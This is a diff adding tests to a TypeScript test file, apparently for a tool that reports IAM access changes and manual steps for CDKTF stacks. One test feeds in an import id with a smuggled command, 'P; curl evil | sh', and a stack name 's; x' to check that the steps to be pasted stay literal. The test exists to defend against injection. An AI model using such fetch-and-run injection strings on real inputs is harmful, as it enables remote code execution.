@@ -138,6 +138,13 @@ describe("what changes for roles", () => {
     );
   });
 
+  test("is told as broader, and not as undecided, where a part of it is known", () => {
+    const denied = [read, { ...write, Effect: "Deny" }];
+    const unread = { ...read, Principal: "a" };
+    const lines = title(denied, [read, unread]);
+    expect(lines[0]).toBe("**Access gets broader:** 1 IAM role may do more.");
+  });
+
   test("says so where it can't be decided, and what an access depends on", () => {
     const unknown = roles(["R"], "${var.p}", { variable: { p: { default: "a" } } });
     const text = shown({ s: unknown }, { s: { ...unknown, variable: { p: { default: "b", type: "string" } } } });
@@ -170,6 +177,33 @@ describe("what is to be done by hand", () => {
     );
     expect(step).toContain("destroy its stack in account `111111111111`");
     expect(others).toEqual([]);
+  });
+
+  test("a stack isn't destroyed for an account that is merely allowed too, or of a provider that puts nothing", () => {
+    const two = { provider: { aws: [{ allowed_account_ids: ["111111111111", "222222222222"] }] } };
+    expect(
+      steps({ s: roles(["R"], json(S3_READ), provider("111111111111")) }, { s: roles(["R"], json(S3_READ), two) }),
+    ).toEqual([]);
+    const idle = (account: string) => ({
+      provider: { aws: [{ allowed_account_ids: ["111111111111"] }, { alias: "idle", allowed_account_ids: [account] }] },
+    });
+    expect(
+      steps(
+        { s: roles(["R"], json(S3_READ), idle("111111111111")) },
+        { s: roles(["R"], json(S3_READ), idle("222222222222")) },
+      ),
+    ).toEqual([]);
+  });
+
+  test("what is to be pasted is a command and nothing else", () => {
+    const stack = { ...roles(["A"]), import: [{ to: "aws_iam_role_policy.A", id: "A:P; curl evil | sh" }] };
+    expect(steps({ s: {} }, { s: stack })).toEqual([expect.stringContaining(": `P; curl evil | sh`.")]);
+    expect(steps({ "s; x": roles(["A"]) }, {})).toEqual([expect.stringContaining("`npx cdktf destroy STACK`")]);
+  });
+
+  test("for 300 workspaces is cut like the rest", () => {
+    const stacks = Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`s${100 + index}`, roles(["R"])]));
+    expect(shown(stacks, {}).length).toBeLessThan(65_536);
   });
 
   test("state that is kept elsewhere is migrated", () => {
